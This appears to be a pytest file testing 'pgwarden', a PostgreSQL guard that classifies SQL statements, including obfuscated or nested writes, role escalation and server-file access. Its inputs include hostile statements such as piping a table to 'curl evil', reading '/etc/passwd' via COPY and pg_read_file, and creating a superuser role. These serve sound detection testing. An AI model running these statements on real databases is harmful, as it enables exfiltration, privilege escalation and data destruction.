"""Statement analysis from the parse tree: no bypass through syntax, no false alarm from text."""

from __future__ import annotations

import pytest

from pgwarden.sql.analysis import analyze_sql

# (sql, kinds that must be present, tables written)
SEES_THROUGH = [
    ("DELETE FROM users", {"delete"}, {"public.users"}),
    ("dElEtE/**/FROM/* x */users -- tail", {"delete"}, {"public.users"}),
    ('DELETE FROM "users"', {"delete"}, {"public.users"}),
    ("DELETE FROM public.users WHERE id = 1", {"delete"}, {"public.users"}),
    ('DELETE FROM U&"\\0075sers"', {"delete"}, {"public.users"}),
    ("select 1; delete from users", {"select", "delete"}, {"public.users"}),
    ("WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d", {"delete"}, {"public.users"}),
    ("SELECT * FROM (SELECT 1) s, LATERAL (SELECT 2) t; UPDATE users SET a = 1", {"update"}, {"public.users"}),
    ("EXPLAIN ANALYZE DELETE FROM users", {"explain", "delete"}, {"public.users"}),
    ("EXPLAIN (ANALYZE, BUFFERS) UPDATE users SET a = 1", {"explain", "update"}, {"public.users"}),
    ("PREPARE p AS DELETE FROM users", {"prepare", "delete"}, {"public.users"}),
    ("COPY users FROM STDIN", {"copy_from", "insert"}, {"public.users"}),  # it inserts rows
    ("COPY (WITH d AS (DELETE FROM users RETURNING 1) SELECT * FROM d) TO STDOUT", {"copy_to", "delete"},
     {"public.users"}),
    ("COPY users TO PROGRAM 'curl evil'", {"copy_program"}, set()),
    ("COPY users FROM '/etc/passwd'", {"copy_file", "insert"}, {"public.users"}),
    ("SELECT * INTO stolen FROM users", {"ddl"}, {"public.stolen"}),
    ("CREATE TABLE stolen AS SELECT * FROM users", {"ddl"}, {"public.stolen"}),
    ("DO $$BEGIN DELETE FROM users; END$$", {"do"}, set()),
    ("DO $body$ BEGIN EXECUTE 'drop table x'; END $body$", {"do"}, set()),
    ("CREATE RULE r AS ON SELECT TO t DO INSTEAD DELETE FROM users", {"ddl", "delete"}, {"public.users"}),
    ("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'delete from users'", {"ddl"}, set()),
    ("CREATE TRIGGER t AFTER INSERT ON a FOR EACH ROW EXECUTE FUNCTION f()", {"ddl"}, set()),
    ("SET ROLE postgres", {"role"}, set()),
    ("SET SESSION AUTHORIZATION postgres", {"role"}, set()),
    ("RESET ROLE", {"role"}, set()),
    ("SELECT set_config('role', 'postgres', false)", {"role"}, set()),
    ("SELECT set_config('session_authorization', 'postgres', false)", {"role"}, set()),
    ("SELECT set_config(current_setting('x'), 'postgres', false)", {"role"}, set()),
    ("SET session_replication_role = replica", {"system"}, set()),
    ("ALTER SYSTEM SET log_statement = 'none'", {"system"}, set()),
    ("SELECT pg_reload_conf()", {"system"}, set()),
    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", {"system"}, set()),
    ("SELECT query_to_xml('DELETE FROM users RETURNING 1', true, false, '')", {"delete"}, {"public.users"}),
    ("SELECT query_to_xml(some_column, true, false, '') FROM t", {"unknown"}, set()),
    ("TRUNCATE users", {"truncate"}, {"public.users"}),
    ("MERGE INTO users u USING s ON u.id = s.id WHEN MATCHED THEN DELETE", {"merge"}, {"public.users"}),
    ("GRANT ALL ON users TO public", {"grant"}, set()),
    ("CREATE ROLE evil SUPERUSER", {"role"}, set()),
    ("DROP TABLE users", {"ddl"}, set()),
    ("ALTER TABLE users ADD COLUMN x int", {"ddl"}, set()),
    ("BEGIN; INSERT INTO users VALUES (1); COMMIT", {"transaction", "insert"}, {"public.users"}),
    ("LOCK TABLE users", {"lock"}, set()),
    ("VACUUM users", {"maintenance"}, set()),
    ("CLUSTER users USING users_pkey", {"maintenance", "ddl"}, set()),  # = ALTER TABLE ... CLUSTER ON
    ("NOTIFY jobs, 'run'", {"listen", "side_effect"}, set()),  # other sessions act on it
    ("CALL p()", {"call"}, set()),
    ("sel ect broken", {"unknown"}, set()),
]


@pytest.mark.parametrize("sql, kinds, writes", SEES_THROUGH, ids=[s[0][:40] for s in SEES_THROUGH])
def test_sees_through(sql, kinds, writes):
    a = analyze_sql(sql)
    assert kinds <= a.kinds, a
    assert writes <= a.writes, a


@pytest.mark.parametrize("sql, absent", [
    ("COPY users TO STDOUT", "insert"), ("CLUSTER users", "ddl"), ("CLUSTER", "ddl"), ("LISTEN jobs", "side_effect"),
])
def test_what_other_forms_do_not_do(sql, absent):
    assert absent not in analyze_sql(sql).kinds


# Text that merely mentions a dangerous word: no write, no DDL.
MENTIONS = [
    "SELECT 'DROP TABLE users; DELETE FROM users'",
    "SELECT $$DELETE FROM users$$",
    "SELECT 1 -- DELETE FROM users",
    "SELECT /* TRUNCATE users */ 1",
    'SELECT "delete", "drop" FROM (SELECT 1 AS "delete", 2 AS "drop") t',
    "SELECT * FROM deletions WHERE note LIKE '%drop%'",
    "SELECT E'\\';DELETE FROM users;--'",
    "SELECT U&'\\0044ELETE'",
    "SELECT query_to_xml('SELECT 1', true, false, '')",
    "EXPLAIN DELETE FROM users",
    "SELECT current_setting('role')",
    "SHOW role",
]


@pytest.mark.parametrize("sql", MENTIONS)
def test_a_mention_is_no_alarm(sql):
    a = analyze_sql(sql)
    assert not a.writes, a
    assert not a.kinds & {"delete", "update", "insert", "ddl", "truncate", "role", "system", "unknown"}, a


@pytest.mark.parametrize(
    "sql, has_where",
    [
        ("DELETE FROM t", False),
        ("DELETE FROM t WHERE true", False),
        ("DELETE FROM t WHERE 1 = 1", False),
        ("DELETE FROM t WHERE 'a' = 'a'", False),
        ("DELETE FROM t WHERE id = 1 OR true", False),
        ("DELETE FROM t WHERE true AND true", False),
        ("DELETE FROM t WHERE id = 1", True),
        ("DELETE FROM t WHERE 1 = 2", True),
        ("UPDATE t SET a = 1 WHERE id = 1 AND true", True),
        ("UPDATE t SET a = 1", False),
        ("WITH d AS (DELETE FROM t RETURNING 1) SELECT 1", False),
        ("SELECT 1", None),
    ],
)
def test_where(sql, has_where):
    assert analyze_sql(sql).has_where is has_where


def _with_writing_functions():
    """The default context, its catalog holding a function whose body deletes every row and one
    whose body deletes one (a database may hold them: an agent may have created them)."""
    import attrs

    from pgwarden.catalog import builtin_catalog
    from pgwarden.catalog.model import Catalog, FunctionFacts
    from pgwarden.sql.context import default_context

    base = builtin_catalog()

    def made(oid: int, name: str, nargs: int, language: str, source: str) -> FunctionFacts:
        return FunctionFacts(oid=oid, schema="public", name=name, nargs=nargs, volatility="v", language=language,
                             trusted_language=True, kind="f", builtin=False, source=source)

    functions = (made(99101, "wipe", 0, "sql", "WITH d AS (DELETE FROM public.t RETURNING 1) SELECT count(*) FROM d"),
                 made(99102, "trim_one", 1, "sql", "DELETE FROM public.t WHERE id = $1"),
                 made(99103, "reset_all", 0, "plpgsql", "BEGIN UPDATE public.t SET a = 0; END"))
    catalog = Catalog(functions=base.functions + functions, relations=base.relations, operators=base.operators,
                      types=base.types, casts=base.casts, settings=base.settings, schemas=base.schemas | {"public"},
                      server_version=base.server_version, source="test")
    return attrs.evolve(default_context(), catalog=catalog)


@pytest.mark.parametrize(
    "sql, has_where",
    [
        ("SELECT public.wipe()", False),
        ("SELECT public.reset_all()", False),
        ("SELECT public.trim_one(1)", True),
        ("SELECT public.trim_one(1), public.wipe()", False),
        ("DELETE FROM t WHERE id = public.trim_one(1)", True),
        ("CREATE FUNCTION pg_temp.f() RETURNS void LANGUAGE sql AS 'DELETE FROM t'; SELECT pg_temp.f()", False),
    ],
)
def test_a_bodys_write_without_where_is_the_calls(sql, has_where):
    # A `where: absent` rule refused `DELETE FROM t` but let `SELECT wipe()` delete every row.
    assert analyze_sql(sql, _with_writing_functions()).has_where is has_where


@pytest.mark.parametrize("volatility", ["i", "s", "v"])
def test_the_functions_a_bodys_code_calls_are_the_calls_whatever_its_declared_volatility(volatility):
    # An IMMUTABLE function's `PERFORM pg_advisory_lock(<a masked value>)` keeps the value in
    # pg_locks as a VOLATILE one's does: what its body calls, nested bodies' too, is called by the
    # statement (the mask plugin judges advisory locks by name; red team eight).
    import attrs

    from pgwarden.catalog import builtin_catalog
    from pgwarden.catalog.model import Catalog, FunctionFacts
    from pgwarden.sql.context import default_context

    base = builtin_catalog()
    functions = (FunctionFacts(oid=99201, schema="public", name="keep", nargs=0, volatility=volatility,
                               language="plpgsql", trusted_language=True, builtin=False,
                               source="BEGIN PERFORM pg_advisory_lock(1); RETURN 1; END"),
                 FunctionFacts(oid=99202, schema="public", name="outer_fn", nargs=0, volatility="i", language="sql",
                               trusted_language=True, builtin=False, source="SELECT public.keep()"))
    catalog = Catalog(functions=base.functions + functions, relations=base.relations, operators=base.operators,
                      types=base.types, casts=base.casts, settings=base.settings, schemas=base.schemas | {"public"},
                      server_version=base.server_version, source="test")
    context = attrs.evolve(default_context(), catalog=catalog)
    assert {"keep", "pg_advisory_lock"} <= analyze_sql("SELECT public.keep()", context).functions
    assert {"outer_fn", "keep", "pg_advisory_lock"} <= analyze_sql("SELECT 1 WHERE public.outer_fn() = 1",
                                                                   context).functions


def test_tables_and_functions():
    a = analyze_sql("SELECT lower(u.email), s.f(1) FROM public.users u JOIN sales.orders o ON o.uid = u.id")
    assert a.tables == {"public.users", "sales.orders"}
    assert {"lower", "f"} <= a.functions
    cte = analyze_sql("WITH x AS (SELECT 1) SELECT * FROM x")
    assert "public.x" not in cte.tables


def test_fingerprint_cache_shares_only_constant_free_analyses():
    from pgwarden.sql.cache import StatementCache

    cache = StatementCache()
    assert cache.get("SELECT * FROM t WHERE id = 1").kinds == {"select"}
    assert cache.get("SELECT * FROM t WHERE id = 2").kinds == {"select"}
    assert cache.fingerprint_hits == 1
    # Same fingerprint, different meaning: never shared.
    assert "role" not in cache.get("SELECT set_config('work_mem', '1MB', false)").kinds
    assert "role" in cache.get("SELECT set_config('role', 'postgres', false)").kinds
    assert cache.get("DELETE FROM t WHERE 1 = 2").has_where is True
    assert cache.get("DELETE FROM t WHERE 1 = 1").has_where is False
    assert "delete" not in cache.get("SELECT query_to_xml('select 1', true, false, '')").kinds
    assert "delete" in cache.get("SELECT query_to_xml('delete from t', true, false, '')").kinds
    assert cache.get("sel ect").kinds == {"unknown"}


def test_statements_evicted_from_the_cache_need_no_cycle_collector():
    """A reference cycle per statement once made RSS grow ~350 bytes per distinct statement:
    evicted statements survived to the oldest generation and waited for a full collection."""
    import gc

    from pgwarden.sql.cache import StatementCache

    cache = StatementCache(size=2)
    # One statement first: what is made once per process (the shipped catalog read, its indexes)
    # may leave cycles of its own, which are not the statements'.
    assert cache.get("select 0 from t where id = 0").fingerprint
    gc.collect()
    gc.disable()
    try:
        for i in range(50):
            statement = cache.get(f"select {i} from t where id = {i}")
            assert statement.kinds == frozenset({"select"}) and statement.fingerprint
            del statement
        # Only this cache's statements count: after the end-to-end tests, threads they left (a
        # catalog load, a sink's fsync, an application let go of, with its own statement cache
        # and what only that cache holds) may make garbage of their own meanwhile.
        gc.set_debug(gc.DEBUG_SAVEALL)
        try:
            gc.collect()
            garbage = {id(o): o for o in gc.garbage}
            foreign = [o for o in gc.garbage if isinstance(o, StatementCache) and o is not cache]
            theirs: set[int] = set()
            while foreign:  # what other caches, garbage themselves, hold (and only they: garbage)
                o = foreign.pop()
                if id(o) not in theirs:
                    theirs.add(id(o))
                    foreign.extend(r for r in gc.get_referents(o) if id(r) in garbage)
            ours = [type(o).__qualname__ for o in gc.garbage
                    if id(o) not in theirs and type(o).__module__.startswith("pgwarden.sql")]
        finally:
            gc.set_debug(0)
            gc.garbage.clear()
        assert not ours, f"statements left garbage cycles behind: {ours[:5]}"
    finally:
        gc.enable()


# ---------------------------------------------------------------- issue 15: the analysis agrees with the server

CATALOG_KINDS = [
    ("SELECT ('/etc/passwd'::text).pg_read_file", {"server_files", "system"}),
    ("SELECT (pid).pg_terminate_backend FROM pg_stat_activity", {"system"}),
    ("SELECT ('s'::regclass).nextval", {"side_effect"}),
    ("SELECT ts_stat('DELETE FROM t RETURNING v')", {"delete", "side_effect"}),
    ("SELECT setval('s', 1)", {"side_effect"}),
    ("SELECT lo_create(0)", {"side_effect"}),
    ("SELECT lo_from_bytea(0, 'x')", {"side_effect"}),
    ("SELECT pg_logical_emit_message(true, 'a', 'b')", {"side_effect"}),
    ("SELECT brin_summarize_new_values('i'::regclass)", {"side_effect"}),
    ("SELECT pg_stat_reset()", {"system"}),
    ("SELECT pg_backup_start('x')", {"system"}),
    ("SET log_min_messages = debug5", {"system"}),
    ("SET log_min_error_statement = panic", {"system"}),
    ("SET log_duration = off", {"system"}),
    ("SELECT set_config('track_activities', 'off', false)", {"system"}),
    ("SELECT * FROM pg_file_settings", {"server_files", "system"}),
    ("SELECT * FROM pg_hba_file_rules", {"server_files"}),
    ("SELECT pg_ls_logdir()", {"server_files"}),
    ("SELECT pg_ls_waldir()", {"server_files"}),
    ("SET TRANSACTION READ WRITE", {"system"}),
    ("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", {"system"}),
    ("START TRANSACTION READ WRITE", {"system"}),
    ("SET default_transaction_read_only = off", {"system"}),
    ("DISCARD ALL", {"role"}),
    ("PREPARE TRANSACTION 'x'", {"system"}),
    ("COMMIT PREPARED 'x'", {"system"}),
    ("ROLLBACK PREPARED 'x'", {"system"}),
    ("SELECT * FROM pg_class FOR UPDATE", {"lock"}),
    ("SELECT * FROM pg_class FOR NO KEY UPDATE", {"lock"}),
    ("SELECT * FROM pg_class FOR SHARE", {"lock"}),
    ("SELECT nosuch_function(1)", {"unknown"}),
    ("SELECT 1 OPERATOR(public.===) 2", {"unknown"}),
    ("DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$", {"ddl", "do"}),
    ("DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'users'); END $$", {"unknown"}),
    ("DO $$ BEGIN DELETE FROM users; END $$", {"delete"}),
    ("DO LANGUAGE plpython3u $$ import os $$", {"unknown"}),
    # an assignment is parsed as the server parses it, not cut at a ':=' inside a literal
    ("DO $d$ DECLARE x text; BEGIN x = pg_read_file($f$/etc/passwd$f$)::text || $a$:=$a$ || $a$y$a$; END $d$",
     {"server_files"}),
    ("DO $d$ DECLARE x text; BEGIN x := $a$ := $a$ || pg_read_file('/etc/passwd'); END $d$", {"server_files"}),
    # with standard_conforming_strings off the server splits a body where libpg_query's PL/pgSQL
    # parser (no options) does not: unreadable (tested with the lexer in test_plpgsql_under_...)
    # a subscript of the target runs too
    ("DO $d$ DECLARE x int[]; BEGIN x[nextval($q$s$q$)] := 1; END $d$", {"side_effect"}),
    ("DO $d$ DECLARE r record; BEGIN r := (SELECT pg_terminate_backend(1)); END $d$", {"system"}),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql VOLATILE AS 'DELETE FROM t RETURNING 1'; SELECT f()",
     {"delete", "side_effect"}),
]


@pytest.mark.parametrize("sql, kinds", CATALOG_KINDS, ids=[c[0][:40] for c in CATALOG_KINDS])
def test_what_the_catalog_says_a_statement_does(sql, kinds):
    a = analyze_sql(sql)
    assert kinds <= a.kinds, a
    if not kinds:
        assert not a.kinds & {"side_effect", "system", "unknown", "server_files"}, a


FALSE_ALARMS = [
    ("EXPLAIN (ANALYZE false) DELETE FROM t", {"explain"}),
    ("EXPLAIN (ANALYZE off) DELETE FROM t", {"explain"}),
    ("SET CONSTRAINTS ALL DEFERRED", {"transaction"}),
    ("SELECT random(), clock_timestamp(), pg_sleep(0), now(), lower('X')", {"select"}),
    ("SELECT * FROM pg_locks", {"select"}),
    ("SELECT currval('s')", {"select"}),
    ("SET work_mem = '64MB'", {"set"}),
    ("SET myapp.tenant = 'x'", {"set"}),
    # ordered-set aggregates: the WITHIN GROUP items are arguments the catalog counts
    ("SELECT percentile_disc(0.5) WITHIN GROUP (ORDER BY x) FROM generate_series(1, 5) x", {"select"}),
    ("SELECT percentile_cont(ARRAY[0.5, 0.9]) WITHIN GROUP (ORDER BY x) FROM generate_series(1, 5) x", {"select"}),
    ("SELECT mode() WITHIN GROUP (ORDER BY x) FROM generate_series(1, 5) x", {"select"}),
]


@pytest.mark.parametrize("sql, kinds", FALSE_ALARMS, ids=[c[0][:40] for c in FALSE_ALARMS])
def test_no_false_alarm(sql, kinds):
    assert analyze_sql(sql).kinds == kinds


TAUTOLOGIES = ["NOT false", "1 < 2", "1::boolean", "coalesce(true, false)", "EXISTS (SELECT 1)", "(SELECT true)",
               "length('a') = 1", "now() IS NOT NULL", "'x' LIKE '%'", "id = id", "id IN (SELECT id FROM t)",
               "ctid IS NOT NULL", "t.id >= t.id", "true OR id = 1",
               # any session may SET transform_null_equals = on: then `NULL = NULL` is true
               "id = 3 OR NULL = NULL", "NULL = NULL",
               # IS [NOT] TRUE / FALSE / UNKNOWN read as they test (never NULL themselves)
               "(1 = 2) IS NOT TRUE", "(NULL::int = 1) IS UNKNOWN", "(1 = 1) IS TRUE", "(1 = 1) IS NOT FALSE",
               # the same column written two ways (red team five)
               "id = t.id", "id = public.t.id", "t.id = public.t.id", "id = (t).id", "id = (t.*).id", 'id = "t"."id"',
               "id = +id", "id IN (id)", "id IN (t.id, 1)", "(id, v) IN ((id, v))", "id = ANY (ARRAY[id, 1])"]


@pytest.mark.parametrize("where", TAUTOLOGIES)
def test_a_where_that_selects_every_row_is_absent(where):
    assert analyze_sql(f"DELETE FROM t WHERE {where}").has_where is False
    assert analyze_sql(f"UPDATE t SET v = 1 WHERE {where}").has_where is False


@pytest.mark.parametrize("where", ["id = 3 OR NULL = 1", "id = NULL", "id = 3", "id IN (SELECT x FROM other)",
                                   "id IN (1, 2)", "id = ANY (ARRAY[1, 2])", "id = other.id", "id = v",
                                   "EXISTS (SELECT 1 FROM o WHERE o.t_id = t.id)", "false", "1 = 2"])
def test_a_where_that_filters(where):
    assert analyze_sql(f"DELETE FROM t WHERE {where}").has_where is True


def test_cte_names_are_scoped_as_the_server_scopes_them():
    assert analyze_sql("WITH users AS (SELECT 1) SELECT * FROM public.users").tables == {"public.users"}
    assert analyze_sql("WITH users AS (SELECT 1) SELECT * FROM users").tables == frozenset()
    # a CTE is not visible in the one before it, nor outside its statement
    a = analyze_sql("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a")
    assert "public.b" in a.tables
    a = analyze_sql("SELECT * FROM (WITH users AS (SELECT 1) SELECT * FROM users) s, users")
    assert "public.users" in a.tables
    # a write's target is the table, never a CTE
    assert analyze_sql("WITH t AS (SELECT 1) DELETE FROM t WHERE id = 1").writes == {"public.t"}


def test_a_search_path_set_in_the_session_is_followed():
    from pgwarden.sql.context import default_context

    ctx = default_context()
    after = ctx.after(analyze_sql("SELECT set_config('search_path', 'secret', false)", ctx))
    assert after.search_path == ("secret",)
    assert "secret.things" in analyze_sql("SELECT * FROM things", after).tables
    again = after.after(analyze_sql("SET search_path = public", after))
    assert {"secret.things", "public.things"} <= analyze_sql("SELECT * FROM things", again).tables
    unknown = ctx.after(analyze_sql("SELECT set_config(s, 'x', false) FROM t", ctx))
    assert unknown.search_path is None


@pytest.mark.parametrize("sql", [
    "SELECT " + "(SELECT " * 150 + "1" + ")" * 150,
    "SELECT " + " + ".join(["1"] * 1000),
    "DELETE FROM t WHERE " + " AND ".join(["(id = 1 OR id = 2)"] * 1500),
])
def test_any_depth_the_server_accepts(sql):
    a = analyze_sql(sql)
    assert "unknown" not in a.kinds


def test_depth_does_not_hide_what_runs():
    assert "server_files" in analyze_sql("SELECT " + " + ".join(["1"] * 999 + ["length(pg_read_file('x'))"])).kinds


def test_a_function_of_the_database_is_unknown_while_the_sessions_ddl_is_unread():
    # BEGIN; CREATE OR REPLACE FUNCTION f ...; SELECT f(): the catalog shows the old body.
    ctx = _with_writing_functions()
    assert "unknown" not in analyze_sql("SELECT public.trim_one(1)", ctx).kinds
    assert "unknown" in analyze_sql("SELECT public.trim_one(1)", ctx.with_stale(True)).kinds
    assert "unknown" not in analyze_sql("SELECT now(), lower('A')", ctx.with_stale(True)).kinds


def test_plpgsql_under_standard_conforming_strings_off_is_unreadable():
    # The server ends 'x\'' after the quote; libpg_query's PL/pgSQL parser, which takes no lexer
    # options, reads one literal up to the next quote: what follows would never be analysed.
    from pgwarden.sql.lexer import LexerSettings
    from pgwarden.sql.syntax import syntax_of

    body = "DO $$BEGIN\nRAISE NOTICE 'x\\''; DELETE FROM secret.things; --';\nEND$$"
    assert "unknown" in syntax_of(body, LexerSettings(standard_conforming_strings=False)).kinds
    assert "unknown" not in syntax_of(body).kinds  # (read by default: one RAISE, nothing else)
    # backslash_quote off only makes the server refuse \': bodies read alike
    assert "unknown" not in syntax_of("DO $$BEGIN RAISE NOTICE 'x'; END$$", LexerSettings(backslash_quote=False)).kinds


def test_a_where_of_many_names_is_judged_by_the_written_tables_columns():
    # Beyond eight names the condition was read with each name a column of the table written:
    # nine of pg_class's columns (a USING item's, the same for every row written) passed as a filter.
    from pgwarden.sql.context import default_context

    names = ["relname", "relnamespace", "reltype", "reloftype", "relowner", "relam", "relfilenode",
             "reltablespace", "relpages"]
    where = " AND ".join(f"{n} IS NOT NULL" for n in names)
    ctx = default_context()
    assert analyze_sql(f"DELETE FROM pg_description USING pg_class WHERE {where}", ctx).has_where is False
    assert analyze_sql(f"DELETE FROM pg_description USING pg_class WHERE {where} AND objoid = 5", ctx).has_where
    assert analyze_sql(f"UPDATE pg_description SET description = '' FROM pg_class WHERE {where} AND 1 = 1",
                       ctx).has_where is False
